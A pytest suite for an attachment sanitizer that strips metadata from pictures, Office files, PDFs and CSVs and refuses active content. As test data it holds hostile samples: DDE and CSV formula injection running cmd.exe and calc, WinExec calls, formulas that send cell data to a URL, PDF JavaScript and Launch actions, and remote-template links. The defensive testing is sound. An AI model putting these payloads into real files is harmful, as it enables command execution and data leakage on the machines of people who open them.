"""Attached files: what may be published, what is told about the rest, and that nothing else gets onto the site."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from datetime import date
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from PIL import Image, ImageChops
from pypdf import PdfReader

from metodbank import codes
from metodbank.attachments.examine import Examined, within
from metodbank.attachments.formulas import reaches_out
from metodbank.attachments.limits import PIXELS
from metodbank.problem import Code

from . import files
from .files import paragraph, pdf, photo, word, workbook


def _words(found: Examined, *, published: bool | None = None) -> str:
    pieces = [piece.text for piece in found.pieces if published is None or piece.published is published]
    return "\n".join(pieces)


def _places(found: Examined) -> list[str]:
    return [piece.where.format(**piece.gaps) for piece in found.pieces]


def _clean(data: bytes, ending: str) -> Examined:
    """Examine a file that can be published; nothing of its traces is left, and cleaning it again changes nothing."""
    found = within(data, ending)
    assert found.fault is None, found.fault
    assert files.traces_in(found.published) == set()
    again = within(found.published, ending)
    assert again.fault is None
    assert again.published == found.published
    assert _words(again, published=True) == _words(found, published=True)
    assert not _words(again, published=False)
    return found


# pictures


@pytest.mark.parametrize(("ending", "format"), [(".jpg", "JPEG"), (".png", "PNG"), (".webp", "WEBP"), (".gif", "GIF")])
def test_a_picture_keeps_its_pixels_and_its_direction_and_nothing_else(ending: str, format: str) -> None:
    data = photo(format)
    found = _clean(data, ending)
    before, after = Image.open(BytesIO(data)), Image.open(BytesIO(found.published))
    assert ImageChops.difference(before.convert("RGB"), after.convert("RGB")).getbbox() is None
    if format != "GIF":
        assert files.AUTHOR in _words(found)
        assert files.SERIAL in _words(found)
        assert "59.5555" in _words(found)
        assert dict(after.getexif()) == {0x0112: 6}
        assert found.size == (48, 64)


def test_a_picture_in_the_place_of_another_format_is_refused() -> None:
    for ending in (".jpg", ".png", ".webp"):
        for format in ("JPEG", "PNG", "WEBP"):
            found = within(photo(format), ending)
            assert (found.fault is None) == ({".jpg": "JPEG", ".png": "PNG", ".webp": "WEBP"}[ending] == format)


def test_a_picture_that_breaks_off_is_refused() -> None:
    for format, ending in (("JPEG", ".jpg"), ("PNG", ".png"), ("WEBP", ".webp")):
        data = photo(format)
        found = within(data[: len(data) // 2], ending)
        assert found.fault is not None
        assert found.fault.code is codes.UNREADABLE_ATTACHMENT


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked() -> None:
    side = int(PIXELS**0.5) + 50
    out = BytesIO()
    Image.new("1", (side, side)).save(out, "PNG")
    assert len(out.getvalue()) < 100_000
    found = within(out.getvalue(), ".png")
    assert found.fault is not None
    assert found.fault.message == codes.TOO_MANY_PIXELS


# documents of Word


def test_a_document_is_published_without_its_author_and_its_history() -> None:
    styles = (
        '<w:settings xmlns:w="w"><w:rsids><w:rsid w:val="00AB12CD"/></w:rsids><w:zoom w:percent="100"/></w:settings>'
    )
    data = word(
        paragraph("Карточки выхода") + '<w:p><a:blip r:embed="rId3"/></w:p>',
        ("rId3", "image", "media/photo.jpeg"),
        ("rId4", "settings", "settings.xml"),
        ("rId5", "attachedTemplate", "file:///C:/Users/tainov-path/Normal.dotm", "External"),
        ("rId6", "customXml", "../customXml/item1.xml"),
        parts={
            "word/media/photo.jpeg": photo("JPEG"),
            "word/settings.xml": styles,
            "customXml/item1.xml": f"<a>{files.COMPANY}</a>",
            "word/orphan.xml": f"<a>{files.AUTHOR}</a>",
        },
    )
    assert files.traces_in(data) >= {files.AUTHOR, files.DEVICE, files.COMPANY, "tainov-path"}
    found = _clean(data, ".docx")
    names = ZipFile(BytesIO(found.published)).namelist()
    assert not [name for name in names if "docProps" in name or "custom" in name or "orphan" in name]
    assert b"rsid" not in files.entry(found.published, "word/document.xml").encode()
    assert "zoom" in files.entry(found.published, "word/settings.xml")
    assert "Карточки выхода" in _words(found, published=True)
    assert {files.AUTHOR, files.COMPANY} <= set(_words(found, published=False).split("\n"))


def _field(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_INNER = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>'
_HOSTILE_WORD: Mapping[str, Callable[[], bytes]] = {
    "macros": lambda: word(paragraph("а"), ("r1", _VBA, "v.bin"), parts={"word/v.bin": b"vba"}),
    "an object": lambda: word(paragraph("а"), ("r1", "oleObject", "o.bin"), parts={"word/o.bin": b"\xd0\xcf"}),
    "a package": lambda: word(paragraph("а"), ("r1", "package", "p.docx"), parts={"word/p.docx": b"PK"}),
    "a template from the web": lambda: word(
        paragraph("а"), ("r1", "attachedTemplate", "https://e.org/t.dotm", "External")
    ),
    "a template from the network": lambda: word(
        paragraph("а"), ("r1", "attachedTemplate", r"\\10.0.0.1\t.dotm", "External")
    ),
    "a picture from the web": lambda: word(paragraph("а"), ("r1", "image", "https://e.org/p.png", "External")),
    "a frame": lambda: word(paragraph("а"), ("r1", "frame", "https://e.org/", "External")),
    "html inside": lambda: word("<w:altChunk/>", ("r1", "aFChunk", "a.html"), parts={"word/a.html": "<p>"}),
    "a link to a file": lambda: word(paragraph("а"), ("r1", "hyperlink", "file:///C:/Users/a.docx", "External")),
    "a link that is a script": lambda: word(paragraph("а"), ("r1", "hyperlink", "javascript:alert(1)", "External")),
    "DDE": lambda: word(_field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    "DDE in pieces": lambda: word(_field("DD", "EAU", "TO cmd")),
    "DDE spelled by another field": lambda: word(_field(f"{_INNER}<w:r><w:instrText>x</w:instrText></w:r>")),
    "a simple field": lambda: word('<w:p><w:fldSimple w:instr="INCLUDETEXT c:\\\\secret.txt"/></w:p>'),
    "a picture by a field": lambda: word(_field('INCLUDEPICTURE "https://e.org/p.png"')),
    "a control": lambda: word('<w:control r:id="r1"/>'),
    "a part of an unknown kind": lambda: word(
        paragraph("а"), ("r1", "somethingNew", "n.xml"), parts={"word/n.xml": "<a/>"}
    ),
}


@pytest.mark.parametrize("make", _HOSTILE_WORD.values(), ids=_HOSTILE_WORD)
def test_a_document_that_acts_is_refused(make: Callable[[], bytes]) -> None:
    found = within(make(), ".docx")
    assert found.fault is not None
    assert found.fault.code is codes.ACTIVE_ATTACHMENT
    assert not found.published
    assert not found.pieces


def test_ordinary_fields_and_links_stay() -> None:
    body = (
        _field("PAGE") + _field('HYPERLINK "https://example.org/"') + _field('TOC \\o "1-3" \\h') + _field(" = 2 + 2 ")
    )
    data = word(body + paragraph("Текст"), ("r1", "hyperlink", "https://example.org/a b?c={d}", "External"))
    assert "https://example.org/a b?c={d}" in _words(_clean(data, ".docx"))


@pytest.mark.parametrize("mark", ["ins", "del", "moveFrom", "rPrChange", "pPrChange"])
def test_tracked_changes_are_to_be_accepted_first(mark: str) -> None:
    found = within(word(f'<w:p><w:{mark} w:author="{files.AUTHOR}"/></w:p>'), ".docx")
    assert found.fault is not None
    assert (found.fault.code, found.fault.message) == (codes.UNFINISHED_ATTACHMENT, codes.HAS_REVISIONS)


def test_remarks_are_to_be_deleted_first_and_an_empty_list_of_them_is_left_out() -> None:
    for remarks, code in (('<w:comment w:author="А"/>', codes.UNFINISHED_ATTACHMENT), ("", None)):
        part = f'<w:comments xmlns:w="w">{remarks}</w:comments>'
        found = within(
            word(paragraph("а"), ("r1", "comments", "comments.xml"), parts={"word/comments.xml": part}), ".docx"
        )
        assert (found.fault and found.fault.code) is code
        assert not found.published or "word/comments.xml" not in ZipFile(BytesIO(found.published)).namelist()


# tables


def test_a_table_is_read_row_by_row_with_hidden_sheets_and_dates() -> None:
    cells = {"A1": "Список группы", "A2": "Вымышленная", "B2": "Анна", "C2": date(2011, 3, 5), "B7": 89001234567}
    found = _clean(workbook(cells, hidden={"A1": "Черновая строка"}, picture=True), ".xlsx")
    texts = dict(zip(_places(found), (piece.text for piece in found.pieces), strict=True))
    assert texts["sheet “Список”, row 2"] == "Вымышленная Анна 05.03.2011"
    assert texts["sheet “Список”, cell B7"] == "89001234567"
    assert texts["hidden sheet “Черновик”, row 1"] == "Черновая строка"


_FORMULAS = {
    "=SUM(A1:A9)/2": False,
    '=IF(A1>1,"да","http://example.org")': False,
    '=HYPERLINK("https://example.org/","сайт")': False,
    '=HYPERLINK("#\'Лист 2\'!A1","дальше")': False,
    "=Таблица1[Баллы]+'Лист 2'!A1": False,
    "=SUM(Таблица1[[#This Row],[Баллы]])": False,
    '=HYPERLINK("https://example.org/?"&A1,"итог")': True,
    '=HYPERLINK(A1,"итог")': True,
    '=HYPERLINK("file:///C:/a.exe","итог")': True,
    '=WEBSERVICE("https://example.org/?"&A1)': True,
    "=cmd|'/c calc'!A0": True,
    "=[1]Лист1!A1": True,
    "='C:\\Users\\[книга.xlsx]Лист1'!A1": True,
    '=RTD("a","b")': True,
    '=IMPORTXML("https://example.org","//a")': True,
    '=CALL("kernel32","WinExec","JC","calc")': True,
    "='file:///home/a.ods'#$Лист1.A1": True,
    '=_xlfn.IMAGE("https://example.org/p.png")': True,
}


@pytest.mark.parametrize(("formula", "refused"), _FORMULAS.items(), ids=list(_FORMULAS))
def test_formulas_that_reach_out_are_refused_and_arithmetic_stays(formula: str, refused: bool) -> None:
    assert reaches_out(formula.removeprefix("=")) is refused
    found = within(workbook({"B3": formula}), ".xlsx")
    assert (found.fault is not None) is refused
    if found.fault:
        assert found.fault.gaps["cell"] == "B3"


_CELLS = {
    "=1+1": True,
    "\"=cmd|'/c calc'!A0\"": True,
    " =1": True,
    "+cmd": True,
    "-2+3+cmd|' /C calc'!A0": True,
    "@SUM(A1)": True,
    '"\t=1"': True,
    "＝1": True,
    "-5": False,
    "+7 (000) 000-00-00": False,
    '"-3,5"': False,
    "-": False,
    "– нет": False,
    "5-6": False,
    "'=1": False,
    "school@example.org": False,
}


@pytest.mark.parametrize("sign", [";", ",", "\t"])
@pytest.mark.parametrize(("cell", "refused"), _CELLS.items(), ids=list(_CELLS))
def test_a_cell_that_a_spreadsheet_would_run_is_refused_with_its_place(cell: str, refused: bool, sign: str) -> None:
    text = f"вопрос{sign}ответ\nпервый{sign}{cell}\n"
    found = within(text.encode(), ".csv")
    assert (found.fault is not None) is refused
    if found.fault:
        assert found.fault.code is codes.ACTIVE_ATTACHMENT
        assert (found.fault.gaps["row"], found.fault.gaps["column"]) == (2, 2)


def test_plain_text_is_published_with_the_mark_of_its_encoding() -> None:
    for ending in (".txt", ".csv"):
        for before in ("\ufeff", ""):
            assert within(f"{before}строка;один\n".encode(), ending).published == "\ufeffстрока;один\n".encode()
        assert within("строка".encode("cp1251"), ending).fault is not None
        assert within(b"a\0b", ending).fault is not None


# PDF


def test_a_pdf_is_published_without_its_properties_and_its_earlier_states() -> None:
    first = pdf("Kartochki vyhoda", "Vtoraya stranica", catalogue={"/PieceInfo": {"/Secret": files.COMPANY}})
    data = first + b"\n% " + files.COMPANY.encode()
    found = _clean(data, ".pdf")
    assert _places(found)[:2] == ["page 1", "page 2"]
    assert {files.AUTHOR, files.DEVICE} <= set(_words(found, published=False).split("\n"))
    reader = PdfReader(BytesIO(found.published))
    assert [page.extract_text() for page in reader.pages] == ["Kartochki vyhoda", "Vtoraya stranica"]
    assert not {"/Info", "/ID"} & set(reader.trailer)


_HOSTILE_PDF: Mapping[str, tuple[Callable[[], bytes], Code]] = {
    "a script on opening": (
        lambda: pdf("a", catalogue={"/OpenAction": {"/S": "/JavaScript", "/JS": "app.alert(1)"}}),
        codes.ACTIVE_ATTACHMENT,
    ),
    "named scripts": (
        lambda: pdf("a", catalogue={"/Names": {"/JavaScript": {"/Names": ["x", {"/S": "/JavaScript", "/JS": "1"}]}}}),
        codes.ACTIVE_ATTACHMENT,
    ),
    "a start of a program": (
        lambda: pdf("a", page={"/AA": {"/O": {"/S": "/Launch", "/F": "cmd.exe"}}}),
        codes.ACTIVE_ATTACHMENT,
    ),
    "a file inside": (
        lambda: pdf("a", catalogue={"/Names": {"/EmbeddedFiles": {"/Names": ["x", {"/Type": "/Filespec"}]}}}),
        codes.ACTIVE_ATTACHMENT,
    ),
    "a form of Adobe": (lambda: pdf("a", catalogue={"/AcroForm": {"/XFA": "<xdp/>"}}), codes.ACTIVE_ATTACHMENT),
    "a form that sends": (
        lambda: pdf("a", page={"/AA": {"/O": {"/S": "/SubmitForm", "/F": "https://example.org"}}}),
        codes.ACTIVE_ATTACHMENT,
    ),
    "a link to a file": (
        lambda: pdf(
            "a", page={"/Annots": [{"/Subtype": "/Link", "/Rect": [], "/A": {"/S": "/URI", "/URI": "file:///C:/a"}}]}
        ),
        codes.ACTIVE_ATTACHMENT,
    ),
    "film": (lambda: pdf("a", page={"/Annots": [{"/Subtype": "/RichMedia", "/Rect": []}]}), codes.ACTIVE_ATTACHMENT),
    "a remark": (
        lambda: pdf("a", page={"/Annots": [{"/Subtype": "/Text", "/Rect": [], "/T": files.AUTHOR}]}),
        codes.UNFINISHED_ATTACHMENT,
    ),
}


@pytest.mark.parametrize(("make", "code"), _HOSTILE_PDF.values(), ids=_HOSTILE_PDF)
def test_a_pdf_that_acts_is_refused(make: Callable[[], bytes], code: Code) -> None:
    found = within(make(), ".pdf")
    assert found.fault is not None
    assert found.fault.code is code


# presentations


def test_a_presentation_is_read_slide_by_slide_with_its_notes() -> None:
    found = _clean(files.powerpoint(["Зачем карточки", "Как начать"], "Сказать о паузе", hidden=2), ".pptx")
    assert [(place, piece.text) for place, piece in zip(_places(found), found.pieces, strict=True)][:3] == [
        ("slide 1", "Зачем карточки"),
        ("notes to slide 1", "Сказать о паузе"),
        ("slide 2 (hidden)", "Как начать"),
    ]
    assert files.AUTHOR in _words(found, published=False)
    opened = _clean(files.open_presentation(["Зачем карточки", "Как начать"]), ".odp")
    assert _places(opened)[:2] == ["slide 1", "slide 2"]
    assert files.AUTHOR in _words(opened, published=False)


_HOSTILE_SLIDES: Mapping[str, Callable[[], tuple[bytes, str]]] = {
    "a button that runs a macro": lambda: (
        files.powerpoint(["а"], extra='<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>'),
        ".pptx",
    ),
    "a button that starts a program": lambda: (
        files.powerpoint(["а"], extra='<a:hlinkClick r:id="" action="ppaction://program"/>'),
        ".pptx",
    ),
    "an object": lambda: (files.powerpoint(["а"], extra="<p:oleObj/>"), ".pptx"),
    "a script": lambda: (
        files.open_presentation(["а"], '<script:event-listener script:event-name="dom:load"/>'),
        ".odp",
    ),
    "a film": lambda: (files.open_presentation(["а"], "<draw:plugin/>"), ".odp"),
    "a library of macros": lambda: (
        files.repacked(files.open_presentation(["а"]), {"Basic/Standard/Module1.xml": "<m/>"}),
        ".odp",
    ),
}


@pytest.mark.parametrize("make", _HOSTILE_SLIDES.values(), ids=_HOSTILE_SLIDES)
def test_a_presentation_that_acts_is_refused(make: Callable[[], tuple[bytes, str]]) -> None:
    found = within(*make())
    assert found.fault is not None
    assert found.fault.code is codes.ACTIVE_ATTACHMENT


# what LibreOffice makes, and makes of what is published


def _made(ending: str, folder: Path) -> bytes:
    if ending not in ("xlsx", "ods"):
        return files.document(folder, ending)
    book = folder / "book.xlsx"
    book.write_bytes(workbook({"A1": "Итог", "A2": 2, "A3": "=A2*3"}, picture=True))
    return files.converted(book, ending).read_bytes()


def _printed(data: bytes, ending: str, folder: Path) -> list[str]:
    folder.mkdir()
    file = folder / f"file.{ending}"
    file.write_bytes(data)
    printed = file if ending == "pdf" else files.converted(file, "pdf")
    return [page.extract_text() for page in PdfReader(printed).pages]


@pytest.mark.parametrize("ending", ["docx", "odt", "pdf", "xlsx", "ods"])
def test_what_is_published_opens_and_reads_as_before(ending: str, tmp_path: Path) -> None:
    data = _made(ending, tmp_path)
    found = _clean(data, f".{ending}")
    before = _printed(data, ending, tmp_path / "before")
    assert any(before)
    assert _printed(found.published, ending, tmp_path / "after") == before
